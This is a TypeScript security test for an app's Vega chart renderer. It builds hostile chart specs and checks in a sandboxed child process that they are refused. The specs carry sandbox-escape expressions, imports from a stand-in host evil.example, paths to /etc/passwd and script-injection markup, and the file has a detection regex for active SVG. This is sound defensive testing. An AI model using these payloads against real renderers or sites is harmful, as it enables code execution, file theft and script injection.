// Item 6: hostile chart specs (url/href data, loader tricks, expressions) rendered by the app's
// renderer in a child process under `node --disallow-code-generation-from-strings` → no network or
// file access, and no Function()/eval (any attempt would throw EvalError in that process).
import { spawnSync } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import { rmSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { build } from 'esbuild';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useTempDir } from '../helpers/tmp';
import { reportFigure } from './figures';

const root = resolve(__dirname, '..', '..');

const values = [
  { area: 'Leicester', value: 51.7 },
  { area: 'England', value: 40.2 },
];
const bar = (extra: Record<string, unknown> = {}) => ({ mark: 'bar', data: { values }, encoding: { x: { field: 'area', type: 'nominal' }, y: { field: 'value', type: 'quantitative' } }, ...extra });

const EXPRESSIONS = [
  "constructor.constructor('return process')()",
  "(function(){return 1})()",
  "this.constructor.constructor('return 1')()",
  "eval('1')",
  "Function('return 1')()",
  "window.location='http://evil.example'",
  "datum.constructor.constructor('return process')().exit()",
  "toString.constructor.prototype",
  "__proto__",
  "[].map.constructor('return 1')()",
  "'a'.constructor.fromCharCode(60)",
  "import('http://evil.example/x.js')",
];

function hostileSpecs(origin: string): Array<{ name: string; spec: unknown }> {
  const specs: Array<{ name: string; spec: unknown }> = [];
  for (const url of [`${origin}/data.csv`, `${origin}/data.json`, 'file:///etc/passwd', '/etc/passwd', '../../../../etc/passwd', 'data:text/csv,a%0A1', `//127.0.0.1:${new URL(origin).port}/x`]) {
    specs.push({ name: `data.url ${url}`, spec: { ...bar(), data: { url } } });
    specs.push({ name: `lookup from ${url}`, spec: bar({ transform: [{ lookup: 'area', from: { data: { url }, key: 'area', fields: ['x'] } }] }) });
    specs.push({ name: `image mark url ${url}`, spec: { mark: 'image', data: { values: [{ u: url, x: 1 }] }, encoding: { url: { field: 'u' }, x: { field: 'x', type: 'quantitative' } } } });
    specs.push({ name: `href ${url}`, spec: bar({ encoding: { ...bar().encoding, href: { value: url } } }) });
    specs.push({ name: `topojson ${url}`, spec: { mark: 'geoshape', data: { url, format: { type: 'topojson', feature: 'x' } } } });
  }
  specs.push({ name: 'href javascript:', spec: bar({ encoding: { ...bar().encoding, href: { value: 'javascript:alert(1)' } } }) });
  for (const expr of EXPRESSIONS) {
    specs.push({ name: `calculate ${expr}`, spec: bar({ transform: [{ calculate: expr, as: 'x' }] }) });
    specs.push({ name: `filter ${expr}`, spec: bar({ transform: [{ filter: expr }] }) });
    specs.push({ name: `labelExpr ${expr}`, spec: bar({ encoding: { ...bar().encoding, x: { field: 'area', type: 'nominal', axis: { labelExpr: expr } } } }) });
    specs.push({ name: `param expr ${expr}`, spec: bar({ params: [{ name: 'p', expr }] }) });
  }
  specs.push({ name: 'usermeta loader', spec: bar({ usermeta: { embedOptions: { loader: { baseURL: origin } } } }) });
  specs.push({ name: 'config customFormatTypes', spec: bar({ config: { customFormatTypes: true }, encoding: { ...bar().encoding, y: { field: 'value', type: 'quantitative', axis: { format: 'x', formatType: 'evil' } } } }) });
  specs.push({ name: 'title with markup', spec: bar({ title: '<script>alert(1)</script><img src=x onerror=alert(2)>' }) });
  specs.push({ name: 'description with markup', spec: bar({ description: '" onload="alert(1)' }) });
  specs.push({ name: 'a plain chart (must render)', spec: bar({ title: 'Campylobacter rate, 2015-17' }) });
  return specs;
}

describe('hostile chart specs', () => {
  const tmp = useTempDir();
  let server: Server;
  let hits: string[] = [];
  let origin = '';
  let uncaught: Array<{ spec: string; error: string }> | null = null;

  beforeAll(async () => {
    server = createServer((req, res) => {
      hits.push(`${req.method} ${req.url}`);
      res.end('area,value\nX,1\n');
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    origin = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  });
  afterAll(() => new Promise<void>((r) => server.close(() => r())));

  it('renders or refuses each, with no network, no file read and no code generated from strings', async () => {
    hits = [];
    const dir = tmp();
    const { nodeBundle } = (await import(pathToFileURL(join(root, 'scripts', 'esbuildNode.mjs')).href)) as { nodeBundle: Record<string, unknown> };
    // Inside the checkout, so the worker's import('vega') (ESM: NODE_PATH does not apply) finds node_modules.
    const worker = join(root, 'dist', 'reliability', `chartSpecWorker-${process.pid}.cjs`);
    await build({ ...nodeBundle, sourcemap: false, logLevel: 'error', entryPoints: [join(__dirname, 'fixtures', 'chartSpecWorker.ts')], outfile: worker });
    const specs = hostileSpecs(origin);
    const input = join(dir, 'specs.json');
    writeFileSync(input, JSON.stringify(specs));
    // Async, so this process's HTTP server can answer (and count) anything the child asks for.
    const child = await new Promise<{ status: number | null; stdout: string; stderr: string }>((res) => {
      const { spawn } = require('node:child_process') as typeof import('node:child_process');
      const p = spawn(process.execPath, ['--disallow-code-generation-from-strings', worker, input], { env: { ...process.env, NODE_PATH: join(root, 'node_modules') } });
      let stdout = '';
      let stderr = '';
      p.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
      p.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      p.on('close', (status) => res({ status, stdout, stderr }));
    });
    void spawnSync;
    rmSync(worker, { force: true });
    expect(child.stderr).toBe('');
    expect(child.status).toBe(0);
    const report = JSON.parse(child.stdout) as {
      codegenBlocked: boolean;
      results: Array<{ name: string; outcome: string; svg?: string; error?: string; touched: string[] }>;
      touchedTotal: string[];
      uncaught: Array<{ spec: string; error: string }>;
    };
    uncaught = report.uncaught;
    expect(report.codegenBlocked).toBe(true);
    const problems: string[] = [];
    for (const r of report.results) {
      if (r.touched.length) problems.push(`${r.name}: touched ${r.touched.join(', ')}`);
      if (r.error && /code generation from strings|EvalError/i.test(r.error)) problems.push(`${r.name}: tried to generate code: ${r.error}`);
      if (r.svg && /<script|\son[a-z]+\s*=\s*["']|<image|<a\b|<foreignObject|href=/i.test(r.svg.replace(/aria-label="[^"]*"/g, ''))) problems.push(`${r.name}: active SVG`);
    }
    if (hits.length) problems.push(`the test server was asked for: ${hits.join(', ')}`);
    if (report.touchedTotal.length) problems.push(`touched after rendering: ${report.touchedTotal.join(', ')}`);
    const plain = report.results.find((r) => r.name.startsWith('a plain chart'));
    if (plain?.outcome !== 'rendered') console.log(JSON.stringify(report.results.slice(-3), null, 1).slice(0, 3000));
    expect(plain?.outcome).toBe('rendered');
    const rendered = report.results.filter((r) => r.outcome === 'rendered').length;
    reportFigure('hostile chart specs (node --disallow-code-generation-from-strings)', {
      tried: specs.length,
      failed: problems.length,
      lost: hits.length,
      note: `${rendered} rendered static, ${specs.length - rendered} refused, ${new Set(report.uncaught.map((u) => u.spec)).size} specs threw asynchronously`,
    });
    expect(problems).toEqual([]);
  }, 120_000);

  // Was a bug: a spec with an `href` encoding made vega-scenegraph's SVG string renderer throw an
  // uncaught TypeError after the refusing loader's sanitize() rejected; in the CLI or the Electron
  // main process that can end the process. sanitize() now answers "no link" and records the attempt
  // (shared/charts/vegaSetup.ts), so the chart is refused with its reason and nothing is thrown.
  it('a chart spec with an href encoding is refused without throwing out of renderChartSvg', () => {
    expect(uncaught).not.toBeNull();
    expect(uncaught).toEqual([]);
  });
});
